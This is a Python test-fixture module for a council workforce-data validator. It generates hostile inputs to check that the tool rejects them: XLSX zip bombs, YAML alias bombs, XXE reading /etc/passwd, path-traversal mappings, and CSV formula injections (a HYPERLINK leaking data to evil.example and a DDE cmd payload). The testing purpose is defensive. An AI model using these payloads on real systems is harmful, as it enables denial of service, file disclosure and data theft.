"""Hostile and broken inputs, built at test time (nothing large is committed).

Each :class:`Case` builds its files under a folder and gives the ``wfkpi`` arguments that run
on them, the exit code that run must end with and text its output must hold. ``measure.py``
runs the same cases as separate processes to record their peak memory.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl

from wfkpi.core.config import package_file

HEADER = "worker_id,employment_type,fte,start_date,end_date,leaving_reason,role,team,cases"
GOOD_ROWS = [
    "W001,permanent,1,2019-04-01,,,Social Worker,North,18",
    "W002,agency,1,15/01/2025,30/06/2025,end_of_contract,Social Worker,North,14",
    "W003,fixed_term,0.6,01/10/2024,,,Senior Practitioner,South,11",
    "W004,permanent,1,2015-09-07,,,Team Manager,South,0",
]
ABSENCES = "worker_id,start_date,end_date,reason,working_days_lost\r\n" \
    "W001,01/03/2025,05/03/2025,sickness,5\r\n"


def csv_bytes(*rows: str, header: str = HEADER) -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode()


def good_csv() -> bytes:
    return csv_bytes(*GOOD_ROWS)


# One cell of text repeated 1,000 columns by 99,000 rows; and the empty rows and cells
# LibreOffice writes after the last row of data.
_REPEATED_CELL = ('<table:table-row table:number-rows-repeated="99000"><table:table-cell '
                  'table:number-columns-repeated="1000" office:value-type="string"><text:p>x'
                  "</text:p></table:table-cell></table:table-row>")
_EMPTY_PADDING = ('<table:table-row table:number-rows-repeated="1048571"><table:table-cell '
                  'table:number-columns-repeated="1024"/></table:table-row>')


def _script_community(folder: Path) -> list[str]:
    """Lambeth's sample and community profile, the profile's area named as an HTML script."""
    root = Path(__file__).parents[2] / "sample_data"
    profile = (root / "lambeth_childrens-community.yaml").read_text(encoding="utf-8")
    profile = re.sub(r"(?m)^area: .*$", 'area: "<script>alert(1)</script>"', profile)
    _write(folder, {"community.yaml": profile})
    return ["report", str(root / "lambeth_childrens"), "--council", "lambeth_childrens",
            "--community", str(folder / "community.yaml"), "--format", "markdown"]


def _census_padding(folder: Path) -> list[str]:
    """The LIIA census sample with 1.5 million empty elements before its end (10 MB)."""
    text = (Path(__file__).parents[1] / "fixtures" / "csww" / "liia_sample_2022.xml").read_text(
        encoding="utf-8")
    end = text.index("</Message>")
    _write(folder, {"census.xml": text[:end] + "<Junk/>" * 1_500_000 + text[end:]})
    return ["validate", str(folder / "census.xml"), "--format", "csv"]


def _far_cell(ref: str, dimension: str | None = None, row: int | None = None) -> bytes:
    """A small XLSX of a header and one row, plus one cell at ``ref``; its ``<dimension>``
    rewritten to ``dimension`` (a lie) when given, and that cell's row to ``row`` (past what
    Excel, or openpyxl, allows)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER.split(","))
    sheet.append(GOOD_ROWS[0].split(","))
    sheet[ref] = "x"
    out = io.BytesIO()
    book.save(out)
    if dimension is None and row is None:
        return out.getvalue()
    source, rewritten = zipfile.ZipFile(io.BytesIO(out.getvalue())), io.BytesIO()
    with zipfile.ZipFile(rewritten, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/") and dimension is not None:
                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(),
                              data)
            if item.filename.startswith("xl/worksheets/") and row is not None:
                number = re.sub(r"\D", "", ref)
                moved = f'r="{ref[:-len(number)]}{row}"'
                data = data.replace(f'r="{ref}"'.encode(), moved.encode())
                data = data.replace(f'<row r="{number}"'.encode(), f'<row r="{row}"'.encode())
            target.writestr(item, data)
    return rewritten.getvalue()


# ---------------------------------------------------------------------------- workbooks

def xlsx_bytes(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Staff"
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def good_xlsx() -> bytes:
    return xlsx_bytes([HEADER.split(","), *[r.split(",") for r in GOOD_ROWS]])


def ods_bytes(rows: list[list[str]], extra: str = "") -> bytes:
    """A minimal OpenDocument spreadsheet; ``extra`` is table XML written after the rows."""
    body = "".join(
        "<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{c}</text:p>'
            "</table:table-cell>" for c in row) + "</table:table-row>" for row in rows) + extra
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Staff">'
        f"{body}</table:table></office:spreadsheet></office:body></office:document-content>")
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
        'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"),
                         "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def good_ods() -> bytes:
    return ods_bytes([HEADER.split(","), *[r.split(",") for r in GOOD_ROWS]])


def xlsx_bomb(gigabytes: float = 3.0) -> bytes:
    """An XLSX whose sheet is ``gigabytes`` of XML that deflates to a few megabytes.

    The sheet's deflate stream is one compressed megabyte of rows repeated (each copy starts
    after a full flush, so the copies are identical), written into the zip by hand: building it
    never holds the gigabytes. The CRC is that of the real content.
    """
    row = b'<row><c t="inlineStr"><is><t>W001</t></is></c><c><v>1</v></c></row>'
    chunk = row * (1024 * 1024 // len(row))
    copies = int(gigabytes * 1024 ** 3 // len(chunk))
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns='
            b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    tail = b"</sheetData></worksheet>"
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = squeeze.compress(head) + squeeze.flush(zlib.Z_FULL_FLUSH)
    repeated = squeeze.compress(chunk) + squeeze.flush(zlib.Z_FULL_FLUSH)
    last = squeeze.compress(tail) + squeeze.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + copies * len(chunk) + len(tail)
    sheet = first + repeated * copies + last
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in _xlsx_parts().items():
            archive.writestr(name, text)
    small = out.getvalue()
    return _append_member(small, "xl/worksheets/sheet1.xml", sheet, crc, size)


def _xlsx_parts() -> dict[str, str]:
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType'
            '="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName'
            '="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
            '//schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats'
            '.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships"><sheets><sheet name="Staff" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
            '//schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'),
    }


def _append_member(archive: bytes, name: str, data: bytes, crc: int, size: int) -> bytes:
    """``archive`` with one more deflated member whose compressed bytes are ``data``."""
    end = archive.rindex(b"PK\x05\x06")
    entries, directory_size, directory_at = struct.unpack("<HII", archive[end + 10:end + 20])
    members = archive[:directory_at]
    directory = archive[directory_at:directory_at + directory_size]
    encoded = name.encode()
    offset = len(members)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size,
                        len(encoded), 0) + encoded
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc,
                          len(data), size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    members += local + data
    directory += central
    record = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries + 1, entries + 1,
                         len(directory), len(members), 0)
    return members + directory + record


# ------------------------------------------------------------------------------ census

CENSUS_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n<Message><Header><CollectionDetails>'
               "<Collection>CSWW</Collection><Year>2025</Year><ReferenceDate>2025-09-30"
               "</ReferenceDate></CollectionDetails><Source><LEA>208</LEA></Source></Header>\n")


def census_bytes(workers: int = 3) -> bytes:
    records = "".join(
        f"<CSWWWorker><AgencyWorker>0</AgencyWorker><SWENo>SW{1000 + i}</SWENo><FTE>1</FTE>"
        f"<PersonBirthDate>1980-01-01</PersonBirthDate><Sex>1</Sex><Ethnicity>WBRI</Ethnicity>"
        f"<QualLevel>1</QualLevel><OrgRole>5</OrgRole><RoleStartDate>2020-01-0{1 + i}"
        f"</RoleStartDate><StartOrigin>1</StartOrigin><FTE30>1</FTE30><Cases30>10</Cases30>"
        f"<WorkingDaysLost>0</WorkingDaysLost></CSWWWorker>\n" for i in range(workers))
    return (CENSUS_HEAD + records + "<LALevel><NumberOfVacancies>2</NumberOfVacancies>"
            "<NoAgencyFTE>1</NoAgencyFTE></LALevel></Message>\n").encode()


# ------------------------------------------------------------------------------ ASC-WDS

ASCWDS_HEADER = ("LOCALESTID,UNIQUEWORKERID,STATUS,DISPLAYID,NINUMBER,POSTCODE,DOB,GENDER,"
                 "ETHNICITY,NATIONALITY,BRITISHCITIZENSHIP,COUNTRYOFBIRTH,YEAROFENTRY,DISABLED,"
                 "CARECERT,L2CARECERT,RECSOURCE,HANDPCERT,STARTDATE,STARTINSECT,APPRENTICE,"
                 "EMPLSTATUS,ZEROHRCONT,DAYSSICK,SALARYINT,SALARY,HOURLYRATE,MAINJOBROLE,"
                 "MAINJRDESC,REGTYPE,CONTHOURS,AVGHOURS,OTHERJOBROLE,OTHERJRDESC,NMCREG,"
                 "NURSESPEC,AMHP,SCQUAL,NONSCQUAL,QUALACH01,QUALACH01NOTES")


def ascwds_bytes(rows: int = 3) -> bytes:
    lines = [ASCWDS_HEADER]
    for i in range(rows):
        cells = [""] * len(ASCWDS_HEADER.split(","))
        names = ASCWDS_HEADER.split(",")
        values = {"LOCALESTID": "ESTAB1", "UNIQUEWORKERID": f"W{i}", "STATUS": "NEW",
                  "STARTDATE": "01/01/2020", "EMPLSTATUS": "1", "ZEROHRCONT": "2",
                  "MAINJOBROLE": "6", "CONTHOURS": "37", "DAYSSICK": "2"}
        for key, value in values.items():
            cells[names.index(key)] = value
        lines.append(",".join(cells))
    return ("\r\n".join(lines) + "\r\n").encode()


# ------------------------------------------------------------------------------- cases

@dataclass(frozen=True)
class Case:
    name: str
    what: str
    build: Callable[[Path], list[str]]  # writes its files under the folder; the wfkpi arguments
    code: int
    expect: tuple[str, ...]  # text the output (stdout and stderr) must hold
    absent: tuple[str, ...] = ()  # text it must not hold


def _write(folder: Path, files: dict[str, bytes | str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
    return folder


def validate(files: dict[str, bytes | str], *options: str, fmt: str = "csv",
             target: str | None = None) -> Callable[[Path], list[str]]:
    def build(folder: Path) -> list[str]:
        _write(folder, files)
        path = folder / target if target else folder
        return ["validate", str(path), "--format", fmt, *options]
    return build


def command(files: dict[str, bytes | str], *args: str) -> Callable[[Path], list[str]]:
    """Any command; ``{dir}`` in an argument is the case's folder."""
    def build(folder: Path) -> list[str]:
        _write(folder, files)
        return [a.replace("{dir}", str(folder)) for a in args]
    return build


def _sparse(name: str, size: int, first: bytes) -> Callable[[Path], list[str]]:
    """A file of ``size`` bytes that takes no disk space (all but ``first`` is a hole)."""
    def build(folder: Path) -> list[str]:
        _write(folder, {"workers.csv": good_csv()})
        with (folder / name).open("wb") as handle:
            handle.write(first)
            handle.truncate(size)
        return ["validate", str(folder), "--format", "json"]
    return build


def _long_line(folder: Path) -> list[str]:
    cell = "x" * (30 * 1024 * 1024)
    _write(folder, {"workers.csv": csv_bytes(GOOD_ROWS[0], f"W009,permanent,1,2020-01-01,,,"
                                             f"{cell},North,1", *GOOD_ROWS[1:])})
    return ["validate", str(folder), "--format", "csv"]


def _wide(folder: Path) -> list[str]:
    extra = ",".join(f"extra{i}" for i in range(20_000 - 9))
    blanks = "," * (20_000 - 9)
    _write(folder, {"workers.csv": csv_bytes(*[r + blanks for r in GOOD_ROWS],
                                             header=HEADER + "," + extra)})
    return ["validate", str(folder), "--format", "csv"]


def _wide_xlsx(folder: Path) -> list[str]:
    header = HEADER.split(",") + [f"extra{i}" for i in range(16_384 - 9)]  # Excel's most
    _write(folder, {"workers.xlsx": xlsx_bytes([header, GOOD_ROWS[0].split(",")])})
    return ["validate", str(folder), "--format", "csv"]


def _bomb(folder: Path) -> list[str]:
    _write(folder, {"workers.csv": good_csv(), "absences.xlsx": xlsx_bomb(3.0)})
    return ["validate", str(folder), "--format", "json"]


def _bomb_lowered(folder: Path) -> list[str]:
    _write(folder, {"workers.xlsx": xlsx_bomb(0.05)})
    return ["validate", str(folder), "--format", "csv", "--limit", "unzipped-mb=10"]


def _many_cells(folder: Path) -> list[str]:
    rows = [f"W{i:06d},permanent,1,2020-01-01,,,Social Worker,North,1" for i in range(20_000)]
    _write(folder, {"workers.csv": csv_bytes(*rows)})
    return ["validate", str(folder), "--format", "csv", "--limit", "cells=100000"]


def _truncate(data: bytes, keep: float) -> bytes:
    return data[: int(len(data) * keep)]


def _corrupt(data: bytes) -> bytes:
    """Every 97th byte from the middle on flipped: the start still looks right."""
    out = bytearray(data)
    for i in range(len(out) // 2, len(out), 97):
        out[i] ^= 0xFF
    return bytes(out)


def _mapping_missing_sheet(folder: Path) -> list[str]:
    _write(folder, {"data/staff.xlsx": good_xlsx(),
                    "mapping.yaml": "workers:\n  file: staff.xlsx\n  sheet: Establishment\n"})
    return ["validate", str(folder / "data"), "--mapping", str(folder / "mapping.yaml"),
            "--format", "csv"]


def _glob_one_bad(folder: Path) -> list[str]:
    _write(folder, {"data/workers_north.csv": good_csv(),
                    "data/workers_south.csv": csv_bytes(
                        "W101,permanent,1,2019-04-01,,,Social Worker,South,3",
                        "W102,permanent,\"1,2019-04-01,,,Social Worker,South,3"),
                    "data/workers_east.xlsx": _truncate(good_xlsx(), 0.5),
                    "mapping.yaml": "workers:\n  file: workers_*\n"})
    return ["validate", str(folder / "data"), "--mapping", str(folder / "mapping.yaml"),
            "--format", "json"]


READ_WORKERS = '"table": "workers"'  # what validate --format json lists for a file it read

BOMB_YAML = "\n".join(
    [f"x{0}: &x0 [" + ",".join(['"lol"'] * 9) + "]"]
    + [f"x{i}: &x{i} [" + ",".join([f"*x{i - 1}"] * 9) + "]" for i in range(1, 9)]) + "\n"

def _targets_unknown_kpi(folder: Path) -> list[str]:
    shipped = package_file("config", "targets.yaml").read_text(encoding="utf-8")
    assert "      kpi: turnover_rate_fte\n" in shipped
    _write(folder, {"workers.csv": good_csv(), "targets.yaml": shipped.replace(
        "      kpi: turnover_rate_fte\n", "      kpi: staff_happiness_index\n", 1)})
    return ["report", str(folder), "--council", "camden_childrens", "--targets",
            str(folder / "targets.yaml")]


def cases() -> list[Case]:
    good = {"workers.csv": good_csv()}
    numbers = csv_bytes("W001,permanent,1e308,2019-04-01,,,Social Worker,North,1e308",
                        "W002,permanent,NaN,2019-04-01,,,Social Worker,North,NaN",
                        "W003,permanent,inf,2019-04-01,,,Social Worker,North,-inf",
                        "W004,permanent,-0,2019-04-01,,,Social Worker,North,-0",
                        "W005,permanent,1,2019-04-01,,,Social Worker,North,2")
    return [
        # CSV, truncated and corrupted
        Case("csv-truncated-in-quote", "a CSV cut off inside a quoted cell",
             validate({"workers.csv": good_csv() + b'W005,permanent,1,"2020-01-0'}), 3,
             ("malformed-csv", "never closed")),
        Case("csv-truncated-mid-row", "a CSV cut off in the middle of a row",
             validate({"workers.csv": good_csv() + b"W005,permanent,1,2020-0"}), 3,
             ("bad-date", "workers.csv,,6,start_date")),
        Case("csv-corrupted", "a CSV with every 97th byte of its second half flipped",
             validate({"workers.csv": _corrupt(csv_bytes(*GOOD_ROWS * 20))}), 3,
             ("workers.csv",)),
        Case("csv-random-bytes", "random binary named .csv",
             validate({"workers.csv": bytes(range(256)) * 64}), 3,
             ("not-a-workbook", "not a text CSV")),
        Case("csv-nul-bytes-start", "NUL bytes near the start of a CSV",
             validate({"workers.csv": good_csv().replace(b"W002", b"W\x0002")}), 3,
             ("not-a-workbook", "binary data")),
        Case("csv-nul-bytes-late", "a NUL byte inside a cell far into a CSV",
             validate({"workers.csv": csv_bytes(*GOOD_ROWS * 100,
                                                "W999,permanent,1,2019-04-01,,,So\x00cial,N,1")}),
             3, ("malformed-csv", "Line 402 holds a NUL character")),
        Case("csv-mixed-encodings", "UTF-8 and Windows-1252 text in one CSV",
             validate({"workers.csv": csv_bytes(
                 "W001,permanent,1,2019-04-01,,,Social Worker,Café Nord,18",
                 *GOOD_ROWS[1:]).replace(b"North", b"Cr\xe8che")}),
             3, ("encoding", "mixes text encodings", "line 2 is UTF-8", "line 3 is Windows-1252")),
        Case("csv-utf16-truncated", "a UTF-16 CSV cut off in the middle of a character",
             validate({"workers.csv": _truncate(b"\xff\xfe" + good_csv().decode().encode(
                 "utf-16-le"), 0.5) + b"\x00"}), 3, ("workers.csv",)),
        Case("csv-long-line", "a CSV line of 30 MB", _long_line, 3,
             ("over-limit", "Line 3", "line-kb", "--limit line-kb=N")),
        Case("csv-20000-columns", "a CSV of 20,000 columns", _wide, 3,
             ("over-limit", "20,000 columns", "--limit columns=N")),
        Case("csv-too-many-cells", "a CSV over a lowered cell limit", _many_cells, 3,
             ("over-limit", "cells", "--limit cells=N")),
        Case("csv-over-file-size", "a 600 MB (sparse) vacancies file beside a good workers file",
             _sparse("vacancies.csv", 600 * 1024 * 1024, b"vacancy_fte,as_at\n"), 3,
             ("over-limit", "vacancies.csv", "600 MB", "--limit file-mb=N", READ_WORKERS)),
        Case("csv-formulas", "formulas in cells: read as text, defused in CSV output",
             validate({"workers.csv": csv_bytes(
                 '=HYPERLINK("http://evil.example/?"&A1;"click"),permanent,1,2019-04-01,,,SW,N,1',
                 "W002,permanent,=1+1,2019-04-01,,,=cmd|' /C calc'!A0,North,@SUM(1)")}),
             3, ("'=1+1", "'@SUM(1)"), absent=(",=", ",@")),
        Case("csv-extreme-numbers", "1e308, NaN, inf and -0 in number columns",
             validate({"workers.csv": numbers}), 3,
             ("fte: beyond ±9,007,199,254,740,992", "cases: beyond ±9,007,199,254,740,992",
              "not a finite number", "bad-number")),
        Case("csv-extreme-numbers-report", "1e308, NaN, inf and -0: report JSON stays finite",
             command({"workers.csv": numbers}, "report", "{dir}", "--format", "json",
                     "--as-at", "2025-09-30"), 3, ('"inpost_headcount"',)),
        Case("csv-dates-years-1-1900-9999", "dates in the years 1, 1900 and 9999",
             validate({"workers.csv": csv_bytes(
                 "W001,permanent,1,0001-01-01,,,Social Worker,North,1",
                 "W002,permanent,1,1900-01-01,,,Social Worker,North,1",
                 "W003,permanent,1,2019-04-01,9999-12-31,,Social Worker,North,1",
                 "W004,permanent,1,31/12/9999,,,Social Worker,North,1",
                 "W005,permanent,1,01/01/0001,,,Social Worker,North,1",
                 "W006,permanent,1,2019-04-01,,,Social Worker,North,1")}), 3,
             ("out-of-range",)),
        Case("csv-conflicting-worker-rows", "the same worker and post twice, FTE and type differ",
             validate({"workers.csv": csv_bytes(
                 "W001,permanent,1,2019-04-01,,,Social Worker,North,18",
                 "W001,agency,0.5,2019-04-01,,,Social Worker,North,3",
                 *GOOD_ROWS[1:])}), 3,
             ("duplicate-spell", "same worker_id, role, start_date, end_date as row 2",
              "it differs in employment_type, fte, cases")),
        Case("csv-empty", "an empty workers file", validate({"workers.csv": b""}), 3,
             ("empty-file",)),
        Case("csv-only-blank-lines", "a workers file of blank lines",
             validate({"workers.csv": b"\r\n" * 1000}), 3, ("empty-file",)),
        Case("csv-bom-only", "a workers file that is only a byte order mark",
             validate({"workers.csv": b"\xef\xbb\xbf"}), 3, ("empty-file",)),
        # XLSX, XLS, ODS
        Case("xlsx-truncated", "an XLSX cut in half",
             validate({"workers.xlsx": _truncate(good_xlsx(), 0.5)}), 3,
             ("not-a-workbook", "truncated or damaged")),
        Case("xlsx-corrupted", "an XLSX with bytes flipped in its second half",
             validate({"workers.xlsx": _corrupt(good_xlsx())}), 3, ("not-a-workbook",)),
        Case("xlsx-zip-bomb", "an XLSX whose sheet is 3 GB of XML in 11 MB, beside a good CSV",
             _bomb, 3, ("over-limit", "absences.xlsx", "unzips to 3,0", "--limit unzipped-mb=N",
                        READ_WORKERS)),
        Case("xlsx-zip-bomb-lowered-limit", "a 50 MB sheet under a 10 MB unzipped limit",
             _bomb_lowered, 3, ("over-limit", "unzipped-mb", "--limit unzipped-mb=N")),
        Case("xlsx-16384-columns", "an XLSX sheet of 16,384 columns (Excel's most)", _wide_xlsx, 3,
             ("over-limit", "16,384 columns", "Staff")),
        Case("xlsx-formulas", "formulas in workbook cells are never evaluated: with no "
             "stored result they read as blank",
             validate({"workers.xlsx": xlsx_bytes([
                 HEADER.split(","),
                 ["W001", "permanent", "=1/0", "2019-04-01", "", "", "SW", "N", "=2+2"],
                 ["W002", "permanent", 1, "2019-04-01", "", "", "SW", "N", "1"]])}), 0,
             ("blank-value", "fte: blank"), absent=("bad-number", ",4,")),
        Case("xlsx-mapping-missing-sheet", "a mapping naming a sheet the workbook lacks",
             _mapping_missing_sheet, 3, ("sheet-not-found", "'Establishment'", "Staff")),
        Case("xlsx-pdf-renamed", "a PDF named .xlsx",
             validate({"workers.xlsx": b"%PDF-1.7\n" + bytes(2000)}), 3, ("it is a PDF",)),
        Case("xls-truncated", "an old-style .xls cut short",
             validate({"workers.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}), 3,
             ("not-a-workbook", "could not be opened")),
        Case("xls-corrupted", "an .xls of random bytes after the right signature",
             validate({"workers.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                       + bytes(range(256)) * 40}), 3, ("not-a-workbook",)),
        Case("ods-good-control", "a minimal ODS reads (the control for the ODS cases)",
             validate({"workers.ods": good_ods()}), 0, ("severity,code",)),
        Case("ods-truncated", "an ODS cut in half",
             validate({"workers.ods": _truncate(good_ods(), 0.5)}), 3,
             ("not-a-workbook", "truncated or damaged")),
        Case("ods-corrupted", "an ODS with bytes flipped in its second half",
             validate({"workers.ods": _corrupt(good_ods())}), 3, ("not-a-workbook",)),
        # census XML
        Case("xml-truncated", "a census file cut in half",
             validate({"census.xml": _truncate(census_bytes(), 0.5)}, target="census.xml"), 3,
             ("unreadable-file", "Not well-formed XML")),
        Case("xml-corrupted", "a census file with bytes flipped in its second half",
             validate({"census.xml": _corrupt(census_bytes())}, target="census.xml"), 3,
             ("census.xml",)),
        Case("xml-entity-bomb", "a census file with a billion-laughs DTD",
             validate({"census.xml": _entity_bomb()}, target="census.xml"), 3,
             ("unsafe-xml", "declares a DTD")),
        Case("xml-external-entity", "a census file with an external entity",
             validate({"census.xml": CENSUS_HEAD.replace(
                 "<Message>", '<!DOCTYPE Message [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                 "<Message>").replace("CSWW</Collection>", "&x;</Collection>") + "</Message>"},
                 target="census.xml"), 3, ("unsafe-xml",)),
        Case("xml-huge-text", "a census record with a 20 MB text node",
             validate({"census.xml": census_bytes().replace(
                 b"<SWENo>SW1000", b"<SWENo>" + b"A" * (20 * 1024 * 1024))},
                 target="census.xml"), 3, ("unreadable-file",)),
        # ASC-WDS
        Case("ascwds-truncated", "an ASC-WDS worker file cut mid-row",
             validate({"Worker.csv": _truncate(ascwds_bytes(), 0.8)}), 3,
             ("Worker.csv,,3,EMPLSTATUS,,\"employment_type: required, but blank",)),
        Case("ascwds-corrupted", "an ASC-WDS worker file with bytes flipped",
             validate({"Worker.csv": _corrupt(ascwds_bytes(20))}), 3, ("Worker.csv",)),
        # several files: the good are read, the bad named
        Case("folder-one-bad-file", "a good workers file, a zip-bombed absences file",
             _bomb, 3, ("absences.xlsx", READ_WORKERS)),
        Case("glob-one-bad-file", "three workers files by a mapping's glob, two broken",
             _glob_one_bad, 3, ("workers_east.xlsx", "workers_south.csv", "never closed",
                                "workers_north.csv", READ_WORKERS)),
        # configuration files
        Case("mapping-yaml-alias-bomb", "a mapping whose aliases expand to 387 million values",
             command({"workers.csv": good_csv(), "mapping.yaml": BOMB_YAML},
                     "validate", "{dir}", "--mapping", "{dir}/mapping.yaml"), 2,
             ("mapping file's aliases", "1,000,000")),
        Case("targets-yaml-alias-bomb", "a targets file whose aliases expand to 387 million values",
             command({"workers.csv": good_csv(), "targets.yaml": BOMB_YAML},
                     "report", "{dir}", "--council", "x", "--targets", "{dir}/targets.yaml"), 2,
             ("targets file's aliases",)),
        Case("yaml-recursive-alias", "a mapping holding an alias inside its own anchor",
             command({"workers.csv": good_csv(), "mapping.yaml": "workers: &a {columns: *a}\n"},
                     "validate", "{dir}", "--mapping", "{dir}/mapping.yaml"), 2,
             ("alias inside the value it names",)),
        Case("targets-unknown-kpi", "a targets file naming a KPI that does not exist",
             _targets_unknown_kpi, 2, ("kpi 'staff_happiness_index' is not a dfe KPI",)),
        Case("limit-option-unknown", "an unknown --limit name",
             command(good, "validate", "{dir}", "--limit", "rows=5"), 2,
             ("--limit 'rows=5'", "file-mb")),
        Case("limit-option-raised", "a raised cell limit lets the 20,000-row CSV through",
             lambda folder: [*_many_cells(folder)[:-1], "cells=200000"], 0, ("severity,code",),
             absent=("over-limit",)),
        Case("limit-option-lowered", "a lowered column limit refuses a good file",
             command(good, "validate", "{dir}", "--limit", "columns=5", "--format", "csv"), 3,
             ("over-limit", "has 9 columns", "of 5 columns (columns)")),
        Case("mapping-absolute-file", "a mapping whose file pattern is an absolute path",
             command({"workers.csv": good_csv(), "mapping.yaml": "workers: {file: /etc/passwd}\n"},
                     "validate", "{dir}", "--mapping", "{dir}/mapping.yaml"), 2,
             ("workers.file: '/etc/passwd' points outside the data folder",)),
        Case("mapping-file-outside", "a mapping whose file pattern climbs out of the folder",
             command({"workers.csv": good_csv(),
                      "mapping.yaml": "workers: {file: ../../*.csv}\n"},
                     "validate", "{dir}", "--mapping", "{dir}/mapping.yaml"), 2,
             ("points outside the data folder",)),
        Case("no-header-row", "a workers file exported without its header row",
             command({"workers.csv": "W001,Jane Smith,AB123456C,permanent,1,2019-04-01\r\n"
                                     "W002,Bob Jones,CD654321E,agency,1,2020-01-01\r\n"},
                     "validate", "{dir}", "--format", "json"), 3,
             ("no-header", "no header row"), absent=("W001", "Jane", "AB123456C", "2019-04-01")),
        Case("xlsx-far-cell", "a 5 KB workbook whose one extra cell sits at XFD1048576",
             command({"workers.xlsx": _far_cell("XFD1048576"), "absences.csv": ABSENCES},
                     "validate", "{dir}", "--format", "json"), 3,
             ("over-limit", "16,384 columns", '"table": "absences"')),
        Case("xlsx-far-cell-rows", "a workbook with a cell at ALL100000, its dimension A1:D2",
             command({"workers.xlsx": _far_cell("ALL100000", dimension="A1:D2")},
                     "validate", "{dir}", "--format", "csv", "--limit", "columns=2000"), 3,
             ("over-limit", "100,000,000 cells",)),
        Case("xlsx-beyond-a-worksheet", "an XLSX with a row past Excel's 1,048,576, under a "
             "raised cell limit",
             command({"workers.xlsx": _far_cell("A1048576", row=2_000_000)}, "validate",
                     "{dir}", "--format", "csv", "--limit", "cells=1e9"), 3,
             ("over-limit", "2,000,000 rows", "more than a worksheet can hold")),
        Case("ods-repeated-cell", "a 1 KB ODS whose one cell is repeated 1,000 columns by "
             "99,000 rows", command({"workers.ods": ods_bytes(
                 [HEADER.split(","), *[r.split(",") for r in GOOD_ROWS]], _REPEATED_CELL),
                 "absences.csv": ABSENCES}, "validate", "{dir}", "--format", "json"), 3,
             ("over-limit", "99,005,000 cells", '"table": "absences"')),
        Case("ods-empty-padding", "an ODS padded with a million empty rows, as LibreOffice "
             "saves one", command({"workers.ods": ods_bytes(
                 [HEADER.split(","), *[r.split(",") for r in GOOD_ROWS]], _EMPTY_PADDING)},
                 "validate", "{dir}", "--format", "csv"), 0, ("severity,code",),
             absent=("over-limit",)),
